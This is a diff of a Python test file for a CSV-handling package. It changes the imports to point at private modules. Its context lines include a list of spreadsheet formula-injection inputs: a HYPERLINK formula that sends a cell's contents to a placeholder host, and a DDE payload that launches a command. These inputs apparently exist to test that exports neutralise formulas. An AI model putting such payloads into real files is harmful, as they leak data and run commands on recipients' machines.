@@ -8,9 +8,9 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from bayesnb.files.predictions import prediction_file
-from bayesnb.files.sources.csv import STARTS, as_read, as_written, line
-from bayesnb.files.sources.paths import as_pandas, open_data
+from bayesnb.files._predictions import prediction_file
+from bayesnb.files.sources._csv import STARTS, as_read, as_written, line
+from bayesnb.files.sources._paths import as_pandas, open_data
 from tests.reading import frame_of
 
 FORMULAS = ['=HYPERLINK("http://x.y/?"&A1,"a;b")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\tx", "\rx", " =1", "＝1",
